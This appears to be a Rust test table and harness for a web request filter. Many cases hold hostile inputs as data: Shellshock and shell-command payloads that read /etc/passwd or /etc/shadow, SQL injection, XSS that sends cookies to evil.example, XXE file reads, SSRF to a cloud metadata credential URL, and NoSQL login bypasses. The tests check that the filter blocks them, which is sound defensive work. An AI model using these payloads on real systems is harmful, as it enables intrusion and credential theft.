    v.push(served_echo("benign generated password", "/form", FORM, b"user=jane&password=86ffZR%408rjN6h4Wi&confirm=2vC%23wXQ%26HdnSh33%26&old=zSpd%3Ct%24L%25u3cvC%26%26"
            .to_vec()));
    // Faker's passwords (`!@#$%^&*()_+`): a `)` before a name, a call of a
    // name no page defines (SQLi 0.95 and XSS 0.92 before the rules).
    v.push(served_echo(
        "benign password with parentheses",
        "/form",
        FORM,
        b"user=jane&password=%29Rt7GGTd&confirm=7%21BsAIue%28zaqnzr%5E_".to_vec(),
    ));
    // A company named after its partners: a boolean over columns to SQL.
    v.push(served_echo(
        "benign company name",
        "/form",
        FORM,
        b"company=Smith%2C+Jones+and+Brown&supplier=Harris+and+Sons".to_vec(),
    ));
    // A screen size with a double prime (NFKC: two primes, read as `''`).
    v.push(served_echo(
        "benign screen size",
        "/form",
        FORM,
        "size=15.6%E2%80%B3&alt=14.4%22".as_bytes().to_vec(),
    ));
    // An old Opera's User-Agent: `; id)` in a line no shell parses.
    let mut c = case("benign old user agent", "GET", "/", Served);
    c.headers.push((
        "user-agent",
        "Opera/9.80 (Windows NT 6.1; U; id) Presto/2.10.289 Version/12.00".into(),
    ));
    v.push(c);
    let mut c = case(
        "user agent command",
        "GET",
        "/",
        Blocked("command", "user_agent"),
    );
    c.headers
        .push(("user-agent", "() { :; }; /bin/cat /etc/passwd".into()));
    v.push(c);
    let mut c = case(
        "form or name",
        "POST",
        "/form",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((FORM, b"id=x+or+id".to_vec()));
    v.push(c);
    let mut c = case(
        "form paren arithmetic",
        "POST",
        "/form",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((FORM, b"id=11111%29*%281%29".to_vec()));
    v.push(c);
    // A password that cuts the query with `#` after a number: compared as
    // a string in a password field, a query cut short in any other.
    v.push(served_echo(
        "benign password cut",
        "/form",
        FORM,
        b"user=jane&password=5%23oZX2sWIL&password_confirmation=5%23oZX2sWIL".to_vec(),
    ));
    v.push(served_echo(
        "benign json password cut",
        "/api/items",
        JSON,
        br#"{"user": "jane", "newPassword": "@hM#nTGupmT3"}"#.to_vec(),
    ));
    // A rich-text field (`RICH_TEXT_FIELDS`): an editor's HTML is served
    // there, an event handler is not; the same HTML elsewhere is XSS.
    let editor = b"%3Ch1%3ERelease+notes%3C%2Fh1%3E%3Ch2%3Ev2.4%3C%2Fh2%3E%3Cul%3E%3Cli%3EFaster+search%3C%2Fli%3E%3Cli%3EDark+mode%3C%2Fli%3E%3C%2Ful%3E";
    v.push(served_echo(
        "benign rich text",
        "/form",
        FORM,
        [b"title=Notes&body=".as_slice(), editor].concat(),
    ));
    let mut c = case(
        "rich text outside its field",
        "POST",
        "/form",
        Blocked("xss", "post_values"),
    );
    c.body = Some((FORM, [b"title=".as_slice(), editor].concat()));
    v.push(c);
    let mut c = case(
        "rich text handler",
        "POST",
        "/form",
        Blocked("xss", "post_values"),
    );
    c.body = Some((
        FORM,
        b"body=%3Cp%3Ehi%3C%2Fp%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E".to_vec(),
    ));
    v.push(c);
    // Text of several lines, as a text area sends it: a `#` then a line
    // break, then words SQL reads again; sqlmap's comments ended by line
    // breaks (`space2morehash`) are read as the spaces they stand for.
    v.push(served_echo("benign text area", "/form", FORM, b"subject=BOFH+excuse+%2310%3A&message=BOFH+excuse+%2310%3A%0D%0A%0D%0Ahardware+stress+fractures"
            .to_vec()));
    let mut c = case(
        "form comments for spaces",
        "POST",
        "/form",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((
        FORM,
        b"id=1%23ngNvzqu%0AAND%23nVNaVoPYeva%0A%23lujYFWfv%0A9227%3D9227".to_vec(),
    ));
    v.push(c);
    // A GraphQL query (a storefront's: `id` alone on a line) is served at
    // the GraphQL endpoint; the same body at a JSON API is a command after
    // a line break; an injection in a string argument is found there.
    let graphql = br#"{"query": "query Cart($id: ID!) {\n  cart(id: $id) {\n    id\n    items(sort: \"price desc\") { sku }\n  }\n}", "variables": {"id": "a1"}}"#;
    v.push(served_echo(
        "benign graphql query",
        "/graphql",
        JSON,
        graphql.to_vec(),
    ));
    let mut c = case(
        "graphql document at a json api",
        "POST",
        "/api/items",
        Blocked("command", "json_values"),
    );
    c.body = Some((JSON, graphql.to_vec()));
    v.push(c);
    let mut c = case(
        "graphql string injection",
        "POST",
        "/graphql",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"query": "{ search(term: \"x\u0027 UNION SELECT password FROM users--\") { id } }"}"#
            .to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "form cut in an id",
        "POST",
        "/form",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((FORM, b"password=5%23oZX2sWIL&id=5%23oZX2sWIL".to_vec()));
    v.push(c);
    let mut c = case(
        "form password injection",
        "POST",
        "/form",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((FORM, b"user=jane&password=x%27+or+%27a%27%3D%27a".to_vec()));
    v.push(c);
    let mut c = case(
        "form attack",
        "POST",
        "/form",
        Blocked("command", "post_values"),
    );
    c.body = Some((FORM, b"host=127.0.0.1%0aid".to_vec()));
    v.push(c);
    v.push(served_echo(
        "benign json",
        "/api/items",
        JSON,
        br#"{"name": "widget", "tags": ["a", "b"], "price": 3.5, "note": "a|b"}"#.to_vec(),
    ));
    let mut c = case(
        "json attack",
        "POST",
        "/api/items",
        Blocked("command", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"name": "w", "opts": {"cmd": ["x", "a && sleep 5"]}}"#.to_vec(),
    ));
    v.push(c);
    // Prose the SQLi model is sure of and the grammar clears, in four
    // fields of one request (a request may ask four readings).
    v.push(served_echo("benign review json", "/api/items", JSON, br##"{"title": "Don't 'select all' -- it's slow", "body": "It's '50/50' really", "height": "He's 5'11\" and weighs 180 lbs", "heading": "# Heading 1"}"##.to_vec()));
    // A theme editor's settings: CSS values the SQLi model read as function
    // calls over numbers, and `var(--x)` as script.
    v.push(served_echo("benign theme json", "/api/items", JSON, br##"{"accent": "rgb(255, 170, 0)", "shadow": "0 4px 8px rgba(0, 0, 0, 0.1)", "border": "1px solid #ccc", "width": "calc(100% - 20px)", "text": "var(--main-color)", "grid": "repeat(3, 1fr)"}"##.to_vec()));
    let mut c = case(
        "theme json subquery",
        "POST",
        "/api/items",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"accent": "rgb(1, 2, 3)", "border": "x, (select password from users)"}"#.to_vec(),
    ));
    v.push(c);
    // Longer than rocket's 512-byte body peek: every framework judges the
    // keys and values it has read as such, not the cut document as one text.
    v.push(served_echo(
        "long benign json",
        "/api/items",
        JSON,
        long_json("O'Brien's pick, select your plan: 2-3 days"),
    ));
    let mut c = case(
        "long json sqli",
        "POST",
        "/api/items",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((JSON, long_json("x' UNION SELECT password FROM users--")));
    v.push(c);
    // Past rocket's 512-byte peek: its demo takes bodies through the
    // `Judged` guard, which has rasp judge the whole body.
    let mut c = case(
        "json sqli past 512 bytes",
        "POST",
        "/api/orders",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((JSON, long_json_last("x' or '1'='1")));
    v.push(c);
    v.push(served_echo(
        "long benign json, last note",
        "/api/items",
        JSON,
        long_json_last("O'Brien's pick, select your plan"),
    ));
    // A wildcard route hands the application the segments joined: judged
    // one at a time, none reads as anything.
    v.push(case(
        "sqli across wildcard path segments",
        "GET",
        "/files/1'/**/union/**/select/**/password/**/from/**/users--",
        Blocked("sqli", "path"),
    ));
    v.push(case(
        "wildcard path",
        "GET",
        "/files/docs/My%20Report%20(v2).pdf",
        Served,
    ));
    // A typed form past rocket's 512-byte peek: `Judged<Form<_>>` has rasp
    // judge it whole (rocket's own `Form` guard sees the first 512 bytes).
    let signup = |name: &str| {
        let comment = "Great shop, thanks! Delivery took 2-3 days. ".repeat(20);
        let mut body = format!(
            "comment={}&name=",
            comment.replace(' ', "+").replace(',', "%2C")
        );
        body.push_str(
            &name
                .replace(' ', "+")
                .replace('\'', "%27")
                .replace('=', "%3D"),
        );
        assert!(body.len() > 600);
        body.into_bytes()
    };
    let mut c = case("long signup form", "POST", "/signup", Served);
    c.body = Some((FORM, signup("Jane O'Brien")));
    v.push(c);
    let mut c = case(
        "signup form sqli past 512 bytes",
        "POST",
        "/signup",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((FORM, signup("x' or '1'='1")));
    v.push(c);
    // Nested deeper than the walker tracks paths for (64): judged as one raw
    // text, a payload 100 arrays deep passed (serde_json reads 128 levels).
    let nested = |note: &str| {
        format!(
            "{}{{\"id\": 1, \"name\": \"Widget\", \"note\": \"{note}\"}}{}",
            "[".repeat(100),
            "]".repeat(100)
        )
        .into_bytes()
    };
    let mut c = case(
        "json sqli nested 100 deep",
        "POST",
        "/api/items",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((JSON, nested("x' or '1'='1")));
    v.push(c);
    let mut c = case("benign json nested 100 deep", "POST", "/api/items", Served);
    c.body = Some((JSON, nested("O'Brien's pick, select your plan")));
    c.echo = true;
    v.push(c);
    // XML read into its element texts and attribute values.
    let xml = |last: &str| {
        let items: String = (0..3)
            .map(|i| format!("<item sku=\"W-{i}\"><name>Widget {i}</name><note>Ships in 2-3 days</note></item>"))
            .collect();
        format!("<?xml version=\"1.0\"?><order>{items}<item><note>{last}</note></item></order>")
            .into_bytes()
    };
    let mut c = case(
        "xml sqli",
        "POST",
        "/api/items",
        Blocked("sqli", "post_values"),
    );
    c.body = Some(("application/xml", xml("x' or '1'='1")));
    v.push(c);
    // In an internal entity, which a parser that expands entities
    // (roxmltree, libxml2) hands over where `&p;` stands: passed before.
    let mut c = case(
        "xml sqli in an entity",
        "POST",
        "/api/items",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((
        "application/xml",
        b"<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY p \"x' or '1'='1\">]><order><item><note>&p;</note></item></order>".to_vec(),
    ));
    v.push(c);
    // External entities (XXE): served before the `xxe` check; an XML
    // parser that resolves them reads the file for the sender.
    let mut c = case(
        "xml external entity",
        "POST",
        "/api/items",
        Blocked("xxe", "post_values"),
    );
    c.body = Some((
        "application/xml",
        b"<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><item><note>&x;</note></item></order>".to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "xml external entity in a json value",
        "POST",
        "/api/items",
        Blocked("xxe", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"soap": "<!DOCTYPE e [<!ENTITY % d SYSTEM 'http://evil.example/x.dtd'> %d;]><e/>"}"#
            .to_vec(),
    ));
    v.push(c);
    // Server-side request forgery toward the instance metadata service:
    // served before the `ssrf` check (an application that fetches the URL
    // hands over the machine's cloud credentials).
    v.push(case(
        "query ssrf metadata url",
        "GET",
        "/search?q=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
        Blocked("ssrf", "qs_values"),
    ));
    let mut c = case(
        "ssrf metadata url in a json value, as a number",
        "POST",
        "/api/items",
        Blocked("ssrf", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"webhook": "http:\/\/2852039166\/latest\/meta-data\/"}"#.to_vec(),
    ));
    v.push(c);
    // NoSQL operator injection: served before the `nosql` check (an
    // application that hands the JSON to MongoDB as a filter logs in
    // without the password).
    let mut c = case(
        "nosql operator in a json key",
        "POST",
        "/api/items",
        Blocked("nosql", "json_keys"),
    );
    c.body = Some((
        JSON,
        br#"{"username": "admin", "password": {"$ne": null}}"#.to_vec(),
    ));
    v.push(c);
    v.push(served_echo(
        "benign json schema keys",
        "/api/items",
        JSON,
        br##"{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/defs/item"}"##
            .to_vec(),
    ));
    v.push(served_echo(
        "benign webhook url",
        "/api/items",
        JSON,
        br#"{"webhook": "https://hooks.example.com/services/T0/B1?token=abc"}"#.to_vec(),
    ));
    let mut c = case(
        "benign svg with its public doctype",
        "POST",
        "/api/items",
        Served,
    );
    c.body = Some((
        "image/svg+xml",
        b"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"><title>Logo</title></svg>".to_vec(),
    ));
    c.echo = true;
    v.push(c);
    let mut c = case("benign xml", "POST", "/api/items", Served);
    c.body = Some(("application/xml", xml("O'Brien's pick, leave at the door")));
    c.echo = true;
    v.push(c);
    // A JSON document whatever its declared type (a handler may parse any
    // body as JSON): walked as JSON, its values judged one by one.
    let mut c = case("long benign json as text", "POST", "/api/items", Served);
    c.body = Some((
        "text/plain",
        long_json("O'Brien's pick, select your plan: 2-3 days"),
    ));
    v.push(c);
    let mut c = case(
        "long json sqli as text",
        "POST",
        "/api/items",
        Blocked("sqli", "json_values"),
    );
    c.body = Some(("text/plain; charset=utf-8", long_json("x' or '1'='1")));
    v.push(c);
    // A compressed body (actix-web decodes `Content-Encoding` before its
    // extractors by default) is judged decoded.
    let gzip = rasp_examples::gzip;
    let mut c = case(
        "gzip json sqli",
        "POST",
        "/api/orders",
        Blocked("sqli", "json_values"),
    );
    c.headers.push(("content-encoding", "gzip".into()));
    c.body = Some((
        JSON,
        gzip(br#"{"customer": {"email": "jane.doe@example.com"}, "items": [{"id": 1, "name": "Widget", "note": "x' UNION SELECT password FROM users--", "price": 2.5}]}"#),
    ));
    v.push(c);
    // To the echo route: only actix's demo decodes the body for its handler.
    let mut c = case("gzip benign json", "POST", "/api/items", Served);
    c.headers.push(("content-encoding", "gzip".into()));
    c.body = Some((
        JSON,
        gzip(br#"{"customer": {"email": "jane.doe@example.com"}, "items": [{"id": 1, "name": "Widget", "note": "O'Brien's pick", "price": 2.5}]}"#),
    ));
    v.push(c);
    // The JSON API route parses the order into typed structs.
    let mut c = case("benign json order", "POST", "/api/orders", Served);
    c.body = Some((
        JSON,
        br#"{"customer": {"email": "jane.doe@example.com"}, "items": [{"id": 1, "name": "Widget", "note": "O'Brien's \"best\" pick", "price": 2.5}]}"#.to_vec(),
    ));
    v.push(c);
    // A payload hidden behind JSON string escapes is judged decoded.
    let mut c = case(
        "json escaped attack",
        "POST",
        "/api/orders",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"customer": {"email": "a@example.com"}, "items": [{"id": 1, "name": "x", "note": "1\u0027 OR \u00271\u0027=\u00271", "price": 1}]}"#.to_vec(),
    ));
    v.push(c);
    let mut c = case("benign multipart", "POST", "/upload", Served);
    c.body = Some((MP, multipart("title", "holiday pictures")));
    c.echo = true;
    v.push(c);
    // The copy numbers browsers add to a downloaded file's name: the
    // upload's filename is judged, and such names were refused.
    for name in ["invoice (1).pdf", "report-final(2).xlsx"] {
        let mut c = case("benign upload name", "POST", "/upload", Served);
        c.body = Some((MP, multipart_file("title", "scans", name)));
        v.push(c);
    }
    let mut c = case(
        "upload name attack",
        "POST",
        "/upload",
        Blocked("xss", "post_values"),
    );
    c.body = Some((
        MP,
        multipart_file("title", "scans", "'><svg onload=alert(1)>.png"),
    ));
    v.push(c);
    let mut c = case(
        "multipart attack",
        "POST",
        "/upload",
        Blocked("command", "post_values"),
    );
    c.body = Some((MP, multipart("title", "x; cat /etc/shadow")));
    v.push(c);
    // Multipart read as the application's parser (multer) reads it: a part
    // without a file name is a field whatever its type says; `FileName` in
    // capitals is no file name to multer; a boundary in the middle of a
    // line splits nothing.
    let part = |head: &str, content: &str| {
        format!("--XBOUNDARY\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--XBOUNDARY--\r\n")
            .into_bytes()
    };
    let mut c = case(
        "multipart field typed as an image",
        "POST",
        "/upload",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((
        MP,
        part(
            "name=\"title\"\r\nContent-Type: image/jpeg",
            "1' union select password from users--",
        ),
    ));
    v.push(c);
    let mut c = case(
        "multipart FileName in capitals",
        "POST",
        "/upload",
        Blocked("sqli", "post_values"),
    );
    c.body = Some((
        MP,
        part(
            "name=\"title\"; FileName=\"a.png\"",
            "1' union select password from users--",
        ),
    ));
    v.push(c);
    let mut c = case(
        "multipart boundary inside a line",
        "POST",
        "/upload",
        Blocked("xss", "post_values"),
    );
    c.body = Some((
        MP,
        part(
            "name=\"title\"",
            "holiday--XBOUNDARY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.png\"\r\n\r\n<svg onload=alert(document.domain)>",
        ),
    ));
    v.push(c);
    // A file is the application's business: its content is not judged.
    let mut c = case("benign upload of SQL", "POST", "/upload", Served);
    c.body = Some((
        MP,
        part(
            "name=\"dump\"; filename=\"backup.sql\"\r\nContent-Type: application/sql",
            "DROP TABLE IF EXISTS users; -- restored by ops",
        ),
    ));
    v.push(c);
    let mut c = case("benign cookie", "GET", "/", Served);
    c.headers
        .push(("cookie", "session=abc123; theme=dark".into()));
    v.push(c);
    let mut c = case("cookie attack", "GET", "/", Blocked("command", "cookies"));
    c.headers.push(("cookie", "session=abc%3Bid".into()));
    v.push(c);
    let mut c = case("benign user agent", "GET", "/", Served);
    c.headers.push((
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into(),
    ));
    v.push(c);
    let mut c = case(
        "user agent attack",
        "GET",
        "/",
        Blocked("command", "user_agent"),
    );
    c.headers
        .push(("user-agent", "() { :; }; /bin/bash -c 'id'".into()));
    v.push(c);
    let mut c = case(
        "forbidden header",
        "GET",
        "/",
        Blocked("headers", "headers_names"),
    );
    c.headers.push(("x-original-url", "/admin".into()));
    v.push(c);
    let mut c = case("spoofed host", "GET", "/", Blocked("spoofing", "host"));
    c.headers.push(("host", "evil.example".into()));
    v.push(c);
    // actix-web's `ConnectionInfo::host` (and `url_for`) and axum's `Host`
    // extractor read these before `Host`: served before.
    let mut c = case(
        "spoofed x-forwarded-host",
        "GET",
        "/",
        Blocked("spoofing", "host"),
    );
    c.headers.push(("x-forwarded-host", "evil.example".into()));
    v.push(c);
    let mut c = case(
        "spoofed forwarded host",
        "GET",
        "/",
        Blocked("spoofing", "host"),
    );
    c.headers
        .push(("forwarded", "for=192.0.2.60;host=evil.example".into()));
    v.push(c);
    // Client addresses a client wrote: logged and shown by applications,
    // and handed over unparsed by actix-web's `realip_remote_addr`.
    let mut c = case(
        "xss in x-forwarded-for",
        "GET",
        "/",
        Blocked("xss", "headers_values"),
    );
    c.headers.push((
        "x-forwarded-for",
        "<script>fetch('//evil.example/'+document.cookie)</script>".into(),
    ));
    v.push(c);
    let mut c = case(
        "sqli in x-real-ip",
        "GET",
        "/",
        Blocked("sqli", "headers_values"),
    );
    c.headers.push(("x-real-ip", "1.2.3.4' or '1'='1".into()));
    v.push(c);
    let mut c = case("forwarding addresses", "GET", "/", Served);
    c.headers
        .push(("x-forwarded-for", "203.0.113.7, 10.0.0.1".into()));
    c.headers.push(("x-real-ip", "203.0.113.7".into()));
    c.headers.push((
        "forwarded",
        "for=\"[2001:db8:cafe::17]:4711\";proto=https".into(),
    ));
    v.push(c);
    let mut c = case("forwarded own host", "GET", "/", Served);
    c.headers.push(("x-forwarded-host", "localhost".into()));
    v.push(c);
    // Bodies larger than MAX_BODY_SIZE (4 KiB here). An upload reaches the
    // handler intact; one the application reads as values is refused
    // (`format`): judged on its first 4 KiB, the payload after the padding
    // reached every framework's handler.
    let big: Vec<u8> = (0..64 * 1024)
        .map(|i| b"abcdefghijklmnopqrstuvwxyz012345"[i % 32])
        .collect();
    let mut c = case("large upload", "POST", "/echo", Served);
    c.body = Some(("application/octet-stream", big.clone()));
    c.echo = true;
    v.push(c);
    let mut upload = multipart_file("title", "Holiday photos", "photo.jpg");
    let at = upload.len() - "plain file\r\n--XBOUNDARY--\r\n".len();
    upload.splice(at..at, big.iter().copied());
    v.push(served_echo("large multipart upload", "/upload", MP, upload));
    let mut c = case(
        "large text body",
        "POST",
        "/echo",
        Blocked("format", "post_values"),
    );
    c.body = Some(("text/plain", big));
    v.push(c);
    let padded = {
        let padding = "Ships in 2-3 days. ".repeat(4 * 1024 / 19 + 1);
        format!(r#"{{"padding": "{padding}", "note": "x' or '1'='1"}}"#).into_bytes()
    };
    let mut c = case(
        "json payload past MAX_BODY_SIZE",
        "POST",
        "/api/items",
        Blocked("format", "post_values"),
    );
    c.body = Some((JSON, padded));
    v.push(c);
    v
}

/// The status, `Server` header and body of a response.
pub type Answer = (u16, Option<String>, Vec<u8>);

async fn send(rb: reqwest::RequestBuilder) -> Result<Answer, String> {
    let resp = rb.send().await.map_err(|e| e.to_string())?;
    let server = resp
        .headers()
        .get("server")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    let code = resp.status().as_u16();
    let body = resp.bytes().await.unwrap_or_default().to_vec();
    Ok((code, server, body))
}

/// Sends `GET target` as written from `source`: reqwest resolves `..`
/// segments as browsers do, an attacker's client does not. HTTP/1.0, so
/// that the body is not chunked and ends with the connection.
async fn raw_get(addr: SocketAddr, source: IpAddr, target: &str) -> Result<Answer, String> {
    let head = format!("GET {target} HTTP/1.0\r\nHost: {addr}\r\n\r\n");
    raw_exchange(addr, source, &head, None).await
}

/// Sends a form POST to `target` from `source` whose body is written only
/// `delay` after its head: the server has the head and not the body when
/// the adapter first asks for it, as from a slow client.
pub async fn raw_post_late_body(
    addr: SocketAddr,
    source: IpAddr,
    target: &str,
    body: &[u8],
    delay: Duration,
) -> Result<Answer, String> {
    let head = format!(
        "POST {target} HTTP/1.0\r\nHost: {addr}\r\nContent-Type: {FORM}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    raw_exchange(addr, source, &head, Some((body, delay))).await
}

/// Writes `head`, then (after its delay) the body, and reads the answer to
/// the end of the connection.
async fn raw_exchange(
    addr: SocketAddr,
    source: IpAddr,
    head: &str,
    late_body: Option<(&[u8], Duration)>,
) -> Result<Answer, String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let io = |e: std::io::Error| e.to_string();
    let socket = if addr.is_ipv4() {
        tokio::net::TcpSocket::new_v4()
    } else {
        tokio::net::TcpSocket::new_v6()
    }
    .map_err(io)?;
    socket.bind(SocketAddr::new(source, 0)).map_err(io)?;
    let mut stream = socket.connect(addr).await.map_err(io)?;
    stream.set_nodelay(true).map_err(io)?;
    stream.write_all(head.as_bytes()).await.map_err(io)?;
    if let Some((body, delay)) = late_body {
        stream.flush().await.map_err(io)?;
        tokio::time::sleep(delay).await;
        stream.write_all(body).await.map_err(io)?;
    }
    let mut data = Vec::new();
    tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut data))
        .await
        .map_err(|_| "timed out".to_string())?
        .map_err(io)?;
    let end = data
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .ok_or("no end of head")?;
    let head = String::from_utf8_lossy(&data[..end]);
    let code = head
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .ok_or("no status")?;
    let server = head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.eq_ignore_ascii_case("server")
            .then(|| v.trim().to_string())
    });
    Ok((code, server, data[end + 4..].to_vec()))
}

/// Runs the table against `app` from `source`. Returns failures as text.
pub async fn run_table(app: &App, source: IpAddr) -> Vec<String> {
    let (status, gtfo) = app.rasp.deny();
    let client = client(source);
    let mut failures = Vec::new();
    for c in table() {
        let url = format!("http://{}{}", app.addr, c.target);
        let method = reqwest::Method::from_bytes(c.method.as_bytes()).expect("method");
        let mut rb = client.request(method, &url);
        for (k, v) in &c.headers {
            rb = rb.header(*k, v);
        }
        if let Some((ct, body)) = &c.body {
            rb = rb.header("content-type", *ct).body(body.clone());
        }
        let hits_before = app.hits.get();
        app.logs.clear();
        let sent = if c.target.contains("/../") {
            raw_get(app.addr, source, &c.target).await
        } else {
            send(rb).await
        };
        let (code, server, body) = match sent {
            Ok(r) => r,
            Err(e) => {
                failures.push(format!("{}: request failed: {e}", c.name));
                continue;
            }
        };
        if server.as_deref() != Some("Apache") {
            failures.push(format!("{}: Server header {server:?}", c.name));
        }
        let expect = match app.framework {
            Framework::Lambda => c.on_lambda.unwrap_or(c.expect),
            _ => c.expect,
        };
        match expect {
            Expect::Served => {
                if code != 200 {
                    failures.push(format!(
                        "{}: expected 200, got {code}: {}",
                        c.name,
                        String::from_utf8_lossy(&body)
                    ));
                } else if c.echo
                    && body.as_slice()
                        != c.body.as_ref().map(|b| b.1.as_slice()).unwrap_or_default()
                {
                    failures.push(format!(
                        "{}: handler did not get the body intact ({} bytes back)",
                        c.name,
                        body.len()
                    ));
                } else if c.served_body.as_ref().is_some_and(|b| *b != body) {
                    failures.push(format!(
                        "{}: the response did not arrive intact ({} bytes)",
                        c.name,
                        body.len()
                    ));
                }
            }
            Expect::NotJudged => {
                if code == status || body.as_slice() == gtfo.as_bytes() {
                    failures.push(format!("{}: judged ({code})", c.name));
                }
            }
            Expect::Blocked(check, location) => {
                if code != status || body.as_slice() != gtfo.as_bytes() {
                    failures.push(format!("{}: expected block {status}, got {code}", c.name));
                    continue;
                }
                // The handler never ran (the data-leak check blocks after it did).
                if check != "dlp" && app.hits.get() != hits_before {
                    failures.push(format!("{}: the handler ran for a blocked request", c.name));
                }
                let src = source.to_string();
                let want = [
                    format!("\"{check}\""),
                    format!("\"{src}\""),
                    format!("\"{location}:"),
                ];
                let parts: Vec<&str> = want.iter().map(String::as_str).collect();
                if app.logs.wait_for(&parts).is_none() {
                    failures.push(format!(
                        "{}: no event {parts:?}, got {:?}",
                        c.name,
                        app.logs.lines()
                    ));
                }
            }
        }
    }
    failures
}
